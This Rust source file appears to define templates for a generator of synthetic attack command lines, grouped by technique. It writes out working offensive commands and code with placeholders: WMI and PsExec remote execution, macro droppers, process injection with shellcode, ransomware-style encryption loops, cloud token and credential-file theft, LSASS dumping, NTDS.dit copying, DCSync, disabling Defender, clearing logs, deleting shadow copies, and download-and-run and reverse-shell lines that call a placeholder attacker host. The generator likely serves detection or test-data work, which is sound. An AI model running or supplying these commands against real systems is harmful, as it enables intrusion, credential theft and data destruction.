//! More techniques, a family each: what the tactics' files touch only in passing.

use crate::generate::family::{Family, Kind::Cmd, Kind::Code, Kind::Ps, Kind::Sh};

pub const FAMILIES: &[Family] = &[
    Family::other("wmi", "wmi-abuse", Cmd, &[
        concat!(
            r#"wmic «/node:{host} ¦/node:"{host}" /user:{user} /password:{password} »«process call create "#,
            r#""{c}"¦process where name='{stem}.exe' call terminate¦service where name='{svcname}' call "#,
            "«stopservice¦startservice¦delete»¦os where primary=1 call «reboot¦shutdown»¦useraccount where ",
            "name='{user}' call rename {stem}¦startup get caption,command¦path win32_networkconnection get ",
            "remotename¦rdtoggle where servername='{host}' call setallowtsconnections 1»",
        ),
        concat!(
            r"wmic /namespace:\\root\«subscription PATH __EventConsumer get¦default PATH StdRegProv CALL ",
            r#"EnumKey hDefKey="&H80000002" sSubKeyName="{softkey}"¦default class stdregprov call "#,
            r#"getstringvalue hDefKey="&H80000002" sSubKeyName="{softkey}" sValueName="{stem}"¦securitycenter2 "#,
            "path antivirusproduct get *¦ccm path ccm_recentlyusedapps get *¦cimv2 path win32_shadowcopy get ",
            r#"*¦cimv2\terminalservices path win32_terminalservicesetting where (__CLASS != "") call "#,
            "setallowtsconnections 1»",
        ),
        concat!(
            r#"powershell -c "Get-«WmiObject¦CimInstance» -Namespace root\«default¦subscription¦cimv2» -List | "#,
            r#"? Name -match '{stem}'""#,
        ),
        r#"powershell "([wmiclass]'\\{host}\root\cimv2:Win32_Process').Create('{c}')""#,
        "winmgmt /«verifyrepository¦salvagerepository¦resetrepository»",
        r"mofcomp.exe -N root\subscription {dir}\{stem}.mof",
        r#"cscript wmiexec.vbs /cmd {host} {user} {password} "{c}""#,
        "scrcons.exe -Embedding",
    ])
    .slots(&[
        ("c", concat!(
                r"«cmd /c whoami > {outfile}¦{dir}\{stem}.exe¦powershell -enc {b64_60}¦cmd /c copy {otherfile} ",
                r"{outfile}¦vssadmin list shadows¦reg query HKLM\{softkey}¦net user {user} {password} /add»",
            )),
    ])
    .weight(7),
    Family::other("office-macro", "office-macro", Code, &[
        concat!(
            r#"Sub «AutoOpen¦Auto_Open¦Document_Open¦Workbook_Open»()⏎    «Shell "{c}", "#,
            r#"vbHide¦CreateObject("WScript.Shell").Run "{c}", 0¦GetObject("winmgmts:\\.\root\cimv2:Win32_Proce"#,
            r#"ss").Create "{c}"¦CreateObject("Shell.Application").ShellExecute "{stem}.exe"»⏎End Sub"#,
        ),
        concat!(
            r#"Private Declare PtrSafe Function URLDownloadToFile Lib "urlmon" Alias "URLDownloadToFileA" "#,
            "(ByVal a As LongPtr, ByVal u As String, ByVal f As String, ByVal r As Long, ByVal c As LongPtr) ",
            "As Long",
        ),
        r#"=EXEC("{c}")⏎=HALT()"#,
        "=cmd|'/c {c}'!A1",
        r#"Set x = CreateObject("MSXML2.XMLHTTP"): x.Open "GET", "{url}", False: x.Send: Execute x.responseText"#,
        concat!(
            r#"Dim s: s = Chr(112) & Chr(111) & Chr(119): Set sh = CreateObject("WScript." & "Shell"): sh.Run "#,
            r#"s & "ershell -w hidden {stem}""#,
        ),
        r#"var sh = new ActiveXObject("WScript.Shell"); sh.Run("{c}", 0); WScript.Sleep({1000..9000});"#,
        r#"<script language="VBScript">CreateObject("Wscript.Shell").Run "{c}",0:window.close()</script>"#,
        concat!(
            r#"<?xml version="1.0"?><scriptlet><registration progid="{alnum6}"><script "#,
            r#"language="JScript"><![CDATA[ new ActiveXObject("WScript.Shell").Run("{stem}.exe"); "#,
            "]]></script></registration></scriptlet>",
        ),
        r#"ActiveDocument.VBProject.VBComponents("ThisDocument").CodeModule.AddFromString "{alnum8}""#,
    ])
    .slots(&[
        ("c", concat!(
                r"«powershell -w hidden -c iex(irm {url})¦cmd /c {dir}\{stem}.bat¦mshta {url}¦rundll32 ",
                r"{dir}\{stem}.dll,Run¦certutil -urlcache -f {url} {stem}.exe¦calc.exe»",
            )),
    ])
    .weight(7),
    Family::other("process-injection", "process-injection", Code, &[
        concat!(
            "HANDLE h = OpenProcess(PROCESS_ALL_ACCESS, FALSE, {pid}); LPVOID p = VirtualAllocEx(h, NULL, ",
            "size, MEM_COMMIT | MEM_RESERVE, PAGE_«EXECUTE_READWRITE¦READWRITE»); WriteProcessMemory(h, p, ",
            "buf, size, NULL); CreateRemoteThread(h, NULL, 0, (LPTHREAD_START_ROUTINE)p, NULL, 0, NULL);",
        ),
        concat!(
            "NtUnmapViewOfSection(pi.hProcess, base); SetThreadContext(pi.hThread, &ctx); ",
            "ResumeThread(pi.hThread);",
        ),
        "QueueUserAPC((PAPCFUNC)addr, pi.hThread, 0); «NtTestAlert();¦ResumeThread(pi.hThread);»",
        "SetWindowsHookEx(WH_«KEYBOARD_LL¦GETMESSAGE», proc, hMod, «0¦tid»);",
        concat!(
            r#"unsigned char buf[] = "\xfc\x48\x83\xe4\xf0\xe8\xc0\x00\x00\x00\x41\x51\x41\x50"; DWORD old; "#,
            "VirtualProtect(buf, sizeof(buf), PAGE_EXECUTE_READ, &old); ((void(*)())buf)();",
        ),
        concat!(
            "IntPtr a = VirtualAlloc(IntPtr.Zero, (uint)sc.Length, 0x3000, 0x40); Marshal.Copy(sc, 0, a, ",
            "sc.Length); CreateThread(IntPtr.Zero, 0, a, IntPtr.Zero, 0, IntPtr.Zero);",
        ),
        concat!(
            r#"LoadLibraryA("{stem}.dll"); GetProcAddress(h, "«AmsiScanBuffer¦EtwEventWrite¦NtAllocateVirtualMe"#,
            r#"mory»");"#,
        ),
        concat!(
            "DuplicateTokenEx(hToken, MAXIMUM_ALLOWED, NULL, SecurityImpersonation, TokenPrimary, &dup); ",
            r#"CreateProcessWithTokenW(dup, 0, L"cmd.exe", NULL, 0, NULL, NULL, &si, &pi);"#,
        ),
        concat!(
            "ImpersonateNamedPipeClient(hPipe); OpenThreadToken(GetCurrentThread(), TOKEN_ALL_ACCESS, FALSE, ",
            "&hToken);",
        ),
        concat!(
            "ctypes.windll.kernel32.«VirtualAlloc¦CreateThread¦WriteProcessMemory»(«0, len(sc), 0x3000, ",
            "0x40¦0, 0, ptr, 0, 0, 0»)",
        ),
        concat!(
            r#"s=socket.socket();s.connect(("{attacker}",{port}));«os.dup2(s.fileno(),0)¦subprocess.call(["cmd."#,
            r#"exe"],stdin=s,stdout=s)»"#,
        ),
        r#"syscall.NewLazyDLL("kernel32.dll").NewProc("VirtualAlloc").Call(0, uintptr(len(sc)), 0x3000, 0x40)"#,
        concat!(
            "let p = VirtualAllocEx(h, null(), sc.len(), 0x3000, 0x40); WriteProcessMemory(h, p, ",
            "sc.as_ptr(), sc.len(), null_mut());",
        ),
        r#"for (f in fs.walk("C:\\Users")) { encrypt(f, key); fs.rename(f, f + ".{alnum5}"); }"#,
        concat!(
            r#"CryptEncrypt(hKey, 0, TRUE, 0, buf, &len, size); MoveFileEx(path, L"{stem}.{alnum5}", "#,
            "MOVEFILE_REPLACE_EXISTING);",
        ),
        "DeviceIoControl(h, 0x{hex8}, &in, sizeof(in), &out, sizeof(out), &n, NULL); // {stem}.sys",
        "DRSGetNCChanges(hDrs, 8, &req, &outVersion, &reply); // {user}",
        concat!(
            "LsaCallAuthenticationPackage(hLsa, kerb, «KerbQueryTicketCacheMessage¦KerbRetrieveEncodedTicketM",
            "essage¦KerbSubmitTicketMessage», sizeof(req), &resp, &len, &st);",
        ),
        concat!(
            "AcceptSecurityContext(&cred, NULL, &in, ASC_REQ_CONNECTION, SECURITY_NATIVE_DREP, &ctx, &out, ",
            "&attr, NULL); // NetNTLM",
        ),
        concat!(
            "SamConnect(NULL, &hServer, SAM_SERVER_LOOKUP_DOMAIN, &oa); SamEnumerateUsersInDomain(hDomain, ",
            "&ctx, 0, &buf, 100, &n);",
        ),
    ])
    .weight(8),
    Family::other("token-theft", "token-theft", Ps, &[
        concat!(
            "$t = «Get-AzAccessToken -ResourceUrl https://graph.microsoft.com¦(Get-AzContext).Account¦Get-MgC",
            "ontext»; $t.Token",
        ),
        concat!(
            "Import-Module AADInternals; «Get-AADIntAccessTokenForAzureCoreManagement ",
            "-SaveToCache¦Export-AADIntADFSSigningCertificate¦Get-AADIntSyncCredentials¦Open-AADIntOffice365P",
            "ortal¦Invoke-AADIntReconAsOutsider -DomainName {domain}¦Set-AADIntUserPassword -SourceAnchor ",
            "{b64_20} -Password {password}¦Get-AADIntTenantDetails¦New-AADIntSAMLToken -UserName {user}»",
        ),
        r"Get-ChildItem $env:USERPROFILE\.azure -Recurse | Copy-Item -Destination {psdir}",
        concat!(
            r"«Get-Content¦cat» $env:USERPROFILE\«.aws\credentials¦.kube\config¦.azure\msal_token_cache.json¦.",
            r"docker\config.json¦AppData\Roaming\gcloud\credentials.db¦.ssh\id_rsa¦.git-credentials»",
        ),
        concat!(
            "Invoke-RestMethod -Headers @{Metadata='true'} 'http://169.254.169.254/metadata/identity/oauth2/t",
            "oken?api-version=2018-02-01&resource=https://vault.azure.net'",
        ),
        concat!(
            "Invoke-«GraphRunner¦MSOLSpray -UserList {stem}.txt -Password ",
            "{password}¦AzureHound¦PasswordSprayOWA -ExchHostname {fqdn} -UserList {stem}.txt -Password ",
            "{password}¦GlobalMailSearch -ImpersonationAccount {user}¦OpenInboxFinder¦AADIntDeviceCodeFlow¦Re",
            "freshToMSGraphToken»",
        ),
        "Connect-AzAccount -AccessToken $t -AccountId {user}@{domain}; Get-AzKeyVaultSecret -VaultName {stem}",
        concat!(
            "Add-MgApplicationPassword -ApplicationId {guid}; New-AzADServicePrincipal -DisplayName {stem} ",
            "-Role Owner",
        ),
        concat!(
            "Get-AzVM | % { Invoke-AzVMRunCommand -VM $_ -CommandId RunPowerShellScript -ScriptPath ",
            r"{psdir}\{stem}.ps1 }",
        ),
        concat!(
            "[System.Net.CredentialCache]::DefaultNetworkCredentials; whoami /upn; klist cloud_debug; ",
            "dsregcmd /status",
        ),
        concat!(
            r"ROADToken.exe {alnum40}; RequestAADRefreshToken.exe; .\TokenTactics.ps1; Get-AzureToken -Client ",
            "MSGraph",
        ),
    ])
    .weight(6),
    Family::other("brute-force", "brute-force", Cmd, &[
        concat!(
            r#"for /f %u in ({stem}.txt) do net use \\{host}\IPC$ «{password}¦""» /user:{domain}\%u && echo %u "#,
            ">> {outfile}",
        ),
        concat!(
            r"for /f %p in ({stem}.txt) do @net use \\{host}\C$ /user:{user} %p 2>nul && echo found %p && net ",
            "use * /delete /y",
        ),
        "hydra.exe -L users.txt -P {stem}.txt «rdp¦smb¦ssh¦ftp»://{ip}",
        concat!(
            "«NLBrute¦DUBrute¦rdpforcer¦crowbar -b rdp¦medusa -M smbnt¦ncrack -p 3389» «-u {user} -C ",
            "{stem}.txt -s {ip}/32¦-h {ip} -u {user} -P {stem}.txt»",
        ),
        "kerbrute.exe «passwordspray¦userenum¦bruteuser» --dc {ip} -d {domain} {stem}.txt {password}",
        r"hashcat«64».exe -m «1000¦5600¦13100¦2100¦22000» {stem}.txt rockyou.txt -O« -r rules\best64.rule»",
        "hashcat.exe -m 1000 -a 3 {stem}.txt ?u?l?l?l?l?d?d --outfile {outfile}",
        "john.exe --format=«NT¦netntlmv2¦mscash2¦krb5tgs» {stem}.txt« --wordlist=rockyou.txt¦ --show»",
        r"rcrack.exe {dir}\tables -h {hex32}",
        concat!(
            "«Advanced_Archive¦7z2hashcat¦office2john.py¦keepass2john.exe¦pdf2john.pl¦zip2john.exe» ",
            "{docfile} > {outfile}",
        ),
        r"ophcrack.exe -d {dir}\tables -t xp_free",
        "L0phtCrack.exe /audit:{stem}.lcs & cain.exe",
        "aircrack-ng.exe -w {stem}.txt {stem}.cap",
    ])
    .weight(6),
    Family::other("attack-scripts", "scripts-attack-batch", Cmd, &[
        r#"@echo off⏎{a}⏎{a}⏎{a}⏎«del "%~f0"¦exit»"#,
        "{a} & {a} & {a}",
        "{a} && {a}",
        "{a}⏎{a}⏎{a}⏎{a}",
        r"set D={dir.1}⏎mkdir %D%⏎{a}⏎{a}⏎7z a {dir.1}\{stem}.7z %D%\*⏎rmdir /s /q %D%",
        "for /f %%h in (hosts.txt) do (⏎  {a}⏎  {a}⏎)",
        "rem {comment}⏎{a}⏎{a}",
        r#"cmd /c "{a} & {a}""#,
        "timeout /t {5..90} /nobreak & {a} & {a}",
    ])
    .slots(&[
        ("a", concat!(
                r#"«whoami /all > {outfile}¦net user /domain >> {outfile}¦net group "Domain Admins" /domain¦nltest "#,
                "/domain_trusts¦tasklist /v >> {outfile}¦ipconfig /all >> {outfile}¦systeminfo >> ",
                r"{outfile}¦netstat -ano >> {outfile}¦cmdkey /list >> {outfile}¦reg query HKLM\{softkey} >> ",
                r"{outfile}¦reg query HKCU\Software\SimonTatham\PuTTY\Sessions /s¦reg save HKCU\Software\{vendor} ",
                r"{dir}\{stem}.hiv /y¦reg save HKLM\SOFTWARE {dir}\software.hiv /y¦reg query ",
                r"HKLM\SYSTEM\CurrentControlSet\Control\Lsa /v RunAsPPL¦reg add ",
                r"HKLM\SYSTEM\CurrentControlSet\Control\SecurityProviders\WDigest /v UseLogonCredential /t ",
                r"REG_DWORD /d 1 /f¦procdump -accepteula -ma lsass.exe {dir}\{stem}.dmp¦rundll32 comsvcs.dll, ",
                r#"MiniDump {pid} {dir}\{stem}.dmp full¦ntdsutil "ac i ntds" "ifm" "create full {dir}" q "#,
                r"q¦vssadmin create shadow /for=C:¦copy {shadow}\Windows\NTDS\ntds.dit {dir}¦vssadmin delete ",
                "shadows /all /quiet¦wevtutil cl Security¦sc stop WinDefend¦net user {user} {password} /add¦net ",
                r"localgroup administrators {user} /add¦schtasks /create /tn {stem} /tr {dir}\{stem}.exe /sc ",
                r"onlogon /ru SYSTEM /f¦certutil -urlcache -f {url} {dir}\{stem}.exe¦{dir}\{stem}.exe¦copy ",
                r"{dir}\{stem}.exe \\{host}\C$\Windows\Temp¦wmic /node:{host} process call create ",
                r"C:\Windows\Temp\{stem}.exe¦psexec \\{host} -s {dir}\{stem}.exe¦mimikatz ",
                r#""sekurlsa::logonpasswords" exit > {outfile}¦mimikatz "lsadump::dcsync /user:krbtgt" exit¦netsh "#,
                r#"wlan show profile name={stem} key=clear¦copy "%LocalAppData%\Google\Chrome\User "#,
                r#"Data\Default\Login Data" {dir}¦curl -T {dir}\{stem}.zip {url}¦netsh advfirewall set allprofiles "#,
                "state off¦rclone copy {dir} remote:{stem}»",
            )),
    ])
    .weight(9),
    Family::other("attack-scripts", "scripts-attack-powershell", Ps, &[
        "{a}⏎{a}⏎{a}",
        "{a}; {a}; {a}",
        "try { {a} } catch {}⏎{a}",
        "$ErrorActionPreference = 'SilentlyContinue'⏎{a}⏎{a}⏎Remove-Item $MyInvocation.MyCommand.Path",
        "foreach ($h in Get-Content hosts.txt) { Invoke-Command -ComputerName $h -ScriptBlock { {a} } }",
        "function Invoke-{alnum6} {⏎    {a}⏎    {a}⏎}⏎Invoke-{alnum6}",
        concat!(
            "if (([Security.Principal.WindowsPrincipal][Security.Principal.WindowsIdentity]::GetCurrent()).Is",
            "InRole('Administrator')) { {a}; {a} }",
        ),
        "$j = Start-Job { {a} }; Wait-Job $j; {a}",
        "$out = @(); $out += {a}; $out | Out-File {psout}; {a}",
    ])
    .slots(&[
        ("a", concat!(
                "«whoami /all¦Get-ADUser -Filter * -Properties SamAccountName | Export-Csv {psout}¦iex (irm ",
                "{url})¦Get-Process lsass | Select Id¦rundll32.exe comsvcs.dll, MiniDump (Get-Process lsass).Id ",
                r"{dir}\{stem}.dmp full¦Invoke-Mimikatz -DumpCreds¦Invoke-Kerberoast -OutputFormat Hashcat | ",
                r"Out-File {psout}¦Copy-Item {shadow}\Windows\NTDS\ntds.dit {psout}¦(Get-WmiObject -List ",
                r"Win32_ShadowCopy).Create('C:\','ClientAccessible')¦Get-WmiObject Win32_ShadowCopy | % { ",
                r"$_.Delete() }¦Get-ItemProperty HKLM:\{softkey}¦Get-ItemProperty ",
                r"HKLM:\SYSTEM\CurrentControlSet\Control\Lsa | Select RunAsPPL¦Set-MpPreference ",
                r"-DisableRealtimeMonitoring $true¦New-ItemProperty HKCU:\Software\Microsoft\Windows\CurrentVersio",
                r"n\Run -Name {stem} -Value {dir}\{stem}.exe¦reg save HKLM\SOFTWARE {psout} /y¦Clear-EventLog ",
                r"Security¦Compress-Archive {psdir}\* {psdir}\{stem}.zip -Force¦Invoke-RestMethod {url} -Method ",
                r"Post -InFile {psdir}\{stem}.zip¦Get-ChildItem C:\Users -Recurse -Include *.kdbx,*.pfx | ",
                "Copy-Item -Destination {psdir}¦netsh wlan export profile key=clear folder={dir}¦Copy-Item ",
                r#""$env:LOCALAPPDATA\Google\Chrome\User Data\Default\Login Data" {psout}¦Add-LocalGroupMember "#,
                r"Administrators {user}¦Start-Process {psdir}\{stem}.exe -WindowStyle ",
                "Hidden¦Get-GPPPassword¦Get-LocalUser | Select Name, SID¦Get-DomainComputer | Select dnshostname»",
            )),
    ])
    .weight(8),
    Family::other("attack-scripts", "scripts-attack-unix", Sh, &[
        "#!/bin/bash⏎{a}⏎{a}⏎{a}",
        "{a}; {a}; {a}",
        "{a} && {a}",
        "for ip in $(cat hosts.txt); do⏎  {a}⏎  {a}⏎done",
        "# {comment}⏎{a}⏎{a}",
        "while true; do {a}; sleep {5..900}; done",
        "{a} | tee -a {shout}⏎{a}",
    ])
    .slots(&[
        ("a", concat!(
                "«{nxc} smb {rhost} {nxcauth} --shares¦{nxc} smb {rhost} {nxcauth} --lsa¦{nxc} smb {rhost} ",
                "{nxcauth} --ntds¦{nxc} smb {rhost} {nxcauth} -M lsassy¦secretsdump.py -just-dc-ntlm ",
                "{target}¦impacket-GetUserSPNs {domain}/{user}:{password} -request¦impacket-wmiexec {target} ",
                "whoami¦nmap -Pn -p 445 {rhost}¦bloodhound-python -u {user} -p {password} -d {domain} -c ",
                "All¦responder -I eth0 -A¦certipy find -u {user} -p {password} -dc-ip {ip}¦hashcat -m 1000 ",
                "{shout} rockyou.txt¦smbclient //{rhost}/C$ -U {user}%{password} -c 'get ",
                r"Users\{user}\{stem}.txt'¦evil-winrm -i {rhost} -u {user} -H {nthash}¦cat /etc/shadow¦curl -s ",
                "{url} | bash¦enum4linux -a {rhost}¦rpcclient -U '' -N {rhost} -c enumdomusers¦ldapdomaindump -u ",
                r"'{domain}\{user}' -p {password} {rhost}¦proxychains -q nxc smb {rhost} {nxcauth} ",
                "--users¦pypykatz lsa minidump {stem}.dmp¦kerbrute userenum -d {domain} {stem}.txt¦mount -t cifs ",
                "//{rhost}/{share} /mnt -o username={user},password={password}¦cp /mnt/Windows/NTDS/ntds.dit ",
                "{shdir}¦python3 -m http.server {port}»",
            )),
    ])
    .weight(7),
    Family::other("execution-mixed", "execution-mixed", Cmd, &[
        r#"{psexe} {psflags} "IEX (New-Object Net.WebClient).DownloadString('{url}')""#,
        "{psexe} {psflags} -e«nc» {b64_120}{b64_200}==",
        "certutil« -urlcache»« -split» -f {url} {outfile}",
        "bitsadmin /transfer {stem} {url} {outfile}",
        "mshta «{url}¦vbscript:Execute(GetObject(script:{url}))¦javascript:close()»",
        "regsvr32 /s /n /u /i:{url} scrobj.dll",
        r"rundll32.exe javascript:\..\mshtml,RunHTMLApplication ;document.write();GetObject(script:{url})",
        r"rundll32.exe {dir}\{stem}.dll,«Start¦DllMain¦#1¦{stem}»",
        concat!(
            r#"wmic «/node:{host} »process call create "«cmd.exe /c {dir}\{stem}.bat¦calc.exe¦powershell -nop "#,
            r#"-w hidden -c whoami»""#,
        ),
        concat!(
            r#"schtasks /create /tn {stem} /tr "{dir}\{stem}.exe" /sc «minute /mo {1..30}¦onlogon¦onstart» /ru "#,
            "SYSTEM« /f»",
        ),
        concat!(
            r"reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v {stem} /t REG_SZ /d ",
            r#""{dir}\{stem}.exe" /f"#,
        ),
        concat!(
            r#"reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution "#,
            r#"Options\sethc.exe" /v Debugger /d cmd.exe /f"#,
        ),
        r#"reg add HKCU\Software\Classes\ms-settings\shell\open\command /d "cmd.exe" /f && fodhelper.exe"#,
        r#"sc «\\{host} »create {stem} binPath= "cmd.exe /c {dir}\{stem}.bat"« start= auto»"#,
        concat!(
            "vssadmin delete shadows /all /quiet« & wmic shadowcopy delete»« & bcdedit /set bootstatuspolicy ",
            "ignoreallfailures»",
        ),
        "wevtutil cl «Security¦System¦Application»",
        "fsutil usn deletejournal /D C:",
        "netsh advfirewall set allprofiles state off",
        "sc stop WinDefend & sc config WinDefend start= disabled",
        r"attrib +h +s {dir}\{stem}.exe",
        "net user {user} {password} /add && net localgroup administrators {user} /add",
        "nc«.exe» -«nv¦»e cmd.exe {attacker} {port}",
        "plink.exe -R {port}:127.0.0.1:3389 {user}@{attacker}",
        concat!(
            r#"reg add "HKLM\System\CurrentControlSet\Control\Terminal Server" /v fDenyTSConnections /t "#,
            "REG_DWORD /d 0 /f",
        ),
        r"msbuild.exe {dir}\{stem}.xml",
        r"installutil.exe /logfile= /u {dir}\{stem}.dll",
        r"cmstp.exe /s {dir}\{stem}.inf",
        r#"forfiles /p C:\Windows /m notepad.exe /c "{dir}\{stem}.exe""#,
        r"ping {attacker} -n {1..9} && {dir}\{stem}.exe",
        r"xcopy {dir}\{stem}.exe \\{host}\ADMIN$\",
        r"PsExec.exe \\{host} -u {user} -p {password} -s cmd.exe",
        "curl {url} -o {outfile} && {outfile}",
        r#"whoami /all & net user /domain & net group "Domain Admins" /domain & nltest /domain_trusts"#,
        "systeminfo & ipconfig /all & arp -a & netstat -ano",
        r"rar a -hp{password} {dir}\{stem}.rar C:\Users\{user}\Documents\*.docx",
        r"cipher /w:C:\",
        r#"icacls "C:\*" /grant Everyone:F /T /C /Q"#,
        r"cmd /c echo {alnum12} > \\.\pipe\{stem}",
        "at {10..23}:{10..59} /interactive cmd",
        "wusa /uninstall /kb:{4000000..5000000} /quiet",
        "MpCmdRun.exe -RemoveDefinitions -All",
        "tscon {1..9} /dest:rdp-tcp#{1..90}",
        "hh.exe {url}",
        r"odbcconf /a {REGSVR {dir}\{stem}.dll}",
        r"control.exe {dir}\{stem}.cpl",
        r#"cmd.exe /c "start /min {dir}\{stem}.exe""#,
        "bcdedit /set safeboot minimal",
        "chisel.exe client {attacker}:{port} R:socks",
        "ngrok.exe tcp 3389",
        "JuicyPotato.exe -l {port} -p cmd.exe -t *",
        r"esentutl /y \\{attacker}\{share}\{stem}.exe /d {outfile} /o",
    ])
    .weight(12),
    Family::other("execution-mixed", "execution-mixed-powershell", Ps, &[
        "IEX«¦ »(New-Object Net.WebClient).DownloadString('{url}')«; {c}»",
        "iex (iwr «-UseBasicParsing »'{url}')«; {c}»",
        "{c}",
        "{c} | Out-File {psout}",
        concat!(
            "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonP",
            "ublic,Static').SetValue($null,$true)",
        ),
        concat!(
            "$client = New-Object System.Net.Sockets.TCPClient('{attacker}',{port});$stream = ",
            "$client.GetStream();[byte[]]$bytes = 0..65535|%{0};while(($i = $stream.Read($bytes, 0, ",
            "$bytes.Length)) -ne 0){;$data = (New-Object -TypeName ",
            "System.Text.ASCIIEncoding).GetString($bytes,0, $i)",
        ),
        "Set-MpPreference -DisableRealtimeMonitoring $true",
        concat!(
            "$b=[Convert]::FromBase64String('{b64_200}');[Reflection.Assembly]::Load($b).EntryPoint.Invoke($n",
            "ull,@(,$null))",
        ),
        r"rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump (Get-Process lsass).Id {dir}\{stem}.dmp full",
        concat!(
            r"Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList '{dir}\{stem}.exe'« ",
            "-ComputerName {host}»",
        ),
        concat!(
            r"$filter = Set-WmiInstance -Class __EventFilter -Namespace root\subscription -Arguments ",
            r"@{Name='{stem}';EventNamespace='root\cimv2';QueryLanguage='WQL';Query='SELECT * FROM ",
            "__InstanceModificationEvent'}",
        ),
        concat!(
            "Invoke-Command -ComputerName {host} -ScriptBlock { «whoami¦iex (irm {url})¦Get-Process ",
            "lsass¦vssadmin delete shadows /all» }",
        ),
        concat!(
            r"New-ItemProperty -Path HKCU:\Software\Microsoft\Windows\CurrentVersion\Run -Name {stem} -Value ",
            r"{dir}\{stem}.exe",
        ),
        r"Get-ChildItem C:\ -Recurse -Include *.kdbx,*.pfx,*pass*.txt -ErrorAction SilentlyContinue",
        r"Add-MpPreference -ExclusionPath {dir}; Start-Process {dir}\{stem}.exe -WindowStyle Hidden",
        "(New-Object Net.WebClient).DownloadFile('{url}', '{outfile}'); Start-Process '{outfile}'",
        "[System.Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('{b64_120}')) | iex",
        "Get-WmiObject Win32_ShadowCopy | ForEach-Object { $_.Delete() }",
        r"Copy-Item «{shadow}\Windows\NTDS\ntds.dit¦C:\Windows\NTDS\ntds.dit» {psout}",
        "net user {user} {password} /add; Add-LocalGroupMember Administrators {user}",
        concat!(
            "[Windows.Security.Credentials.PasswordVault,Windows.Security.Credentials,ContentType=WindowsRunt",
            "ime];(New-Object Windows.Security.Credentials.PasswordVault).RetrieveAll()",
        ),
        concat!(
            "(netsh wlan show profiles) | Select-String ':(.+)$' | % { netsh wlan show profile ",
            "name=$_.Matches.Groups[1].Value.Trim() key=clear }",
        ),
        r"Get-ItemProperty 'HKLM:\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon' | select Default*",
        "Get-DomainUser -SPN | Get-DomainSPNTicket -OutputFormat Hashcat",
        r"DSInternals\Get-ADReplAccount -All -Server {fqdn}",
    ])
    .slots(&[
        ("c", concat!(
                "«Invoke-BloodHound -CollectionMethod All¦Invoke-Kerberoast -OutputFormat Hashcat¦Get-DomainUser ",
                "-Identity {user}¦Get-NetComputer -FullData¦Invoke-AllChecks¦Find-LocalAdminAccess ",
                "-Verbose¦Invoke-Portscan -Hosts {cidr}¦Get-GPPPassword¦Invoke-ACLScanner ",
                "-ResolveGUIDs¦Invoke-UserHunter¦Invoke-Mimikatz -DumpCreds¦Invoke-Mimikatz -Command ",
                r#"'"lsadump::dcsync /user:{domain}\krbtgt"'¦Invoke-DCSync¦Invoke-TheHash -Type SMBExec -Target "#,
                "{ip} -Username {user} -Hash {nthash}¦Invoke-Inveigh -ConsoleOutput Y¦Get-Keystrokes -LogPath ",
                "{psout}¦Invoke-PowerShellTcp -Reverse -IPAddress {attacker} -Port {port}¦Get-ObjectAcl ",
                "-SamAccountName {user} -ResolveGUIDs¦Get-NetGroupMember -GroupName 'Domain ",
                "Admins'¦Invoke-PSImage -Image {stem}.png¦Out-Minidump -Process (Get-Process lsass)»",
            )),
    ])
    .weight(12),
];
